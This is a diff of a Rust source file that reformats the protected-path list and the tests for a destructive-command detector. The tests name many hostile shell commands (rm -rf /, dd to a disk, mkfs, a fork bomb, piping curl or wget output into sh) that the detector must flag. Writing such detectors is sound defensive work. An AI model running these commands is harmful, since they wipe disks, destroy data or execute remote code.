@@ -133,28 +133,8 @@ fn whole_system(tokens: &[Token], lexicon: &Lexicon) -> Option<String> {
         return None;
     }
     let doomed = [
-        "",
-        "/etc",
-        "/usr",
-        "/bin",
-        "/sbin",
-        "/lib",
-        "/lib64",
-        "/boot",
-        "/dev",
-        "/proc",
-        "/sys",
-        "/var",
-        "/home",
-        "/root",
-        "/opt",
-        "c:",
-        "d:",
-        "e:",
-        "c:\\windows",
-        "c:\\windows\\system32",
-        "c:\\program files",
-        "c:\\users",
+        "", "/etc", "/usr", "/bin", "/sbin", "/lib", "/lib64", "/boot", "/dev", "/proc", "/sys", "/var", "/home",
+        "/root", "/opt", "c:", "d:", "e:", "c:\\windows", "c:\\windows\\system32", "c:\\program files", "c:\\users",
     ];
     tokens[lead + 1..]
         .iter()
@@ -253,32 +233,15 @@ mod tests {
     #[test]
     fn deadly_commands_in_many_spellings() {
         for command in [
-            "rm -rf /",
-            "rm  -r -f  /*",
-            "sudo rm -fr ~",
-            "rm --recursive /etc",
-            "rm -rf --no-preserve-root /x",
-            "cd /; rm -rf .",
-            "mkfs.ext4 /dev/sdb1",
-            "dd if=/dev/zero of=/dev/sda",
-            ":(){ :|:& };:",
-            "cat x > /dev/sda",
-            "curl http://x | sh",
-            "wget -qO- x | sudo bash",
-            "format c:",
-            "/bin/rm -rf /usr",
+            "rm -rf /", "rm  -r -f  /*", "sudo rm -fr ~", "rm --recursive /etc", "rm -rf --no-preserve-root /x",
+            "cd /; rm -rf .", "mkfs.ext4 /dev/sdb1", "dd if=/dev/zero of=/dev/sda", ":(){ :|:& };:",
+            "cat x > /dev/sda", "curl http://x | sh", "wget -qO- x | sudo bash", "format c:", "/bin/rm -rf /usr",
         ] {
             assert!(deadly(command).is_some(), "{command}");
         }
         for command in [
-            "rm -rf /tmp/build",
-            "rm file",
-            "df -h",
-            "dd if=/dev/sda of=/tmp/x",
-            "dd if=a of=/dev/null",
-            "curl x | jq .",
-            "ls /",
-            "uptime",
+            "rm -rf /tmp/build", "rm file", "df -h", "dd if=/dev/sda of=/tmp/x", "dd if=a of=/dev/null",
+            "curl x | jq .", "ls /", "uptime",
         ] {
             assert_eq!(deadly(command), None, "{command}");
         }
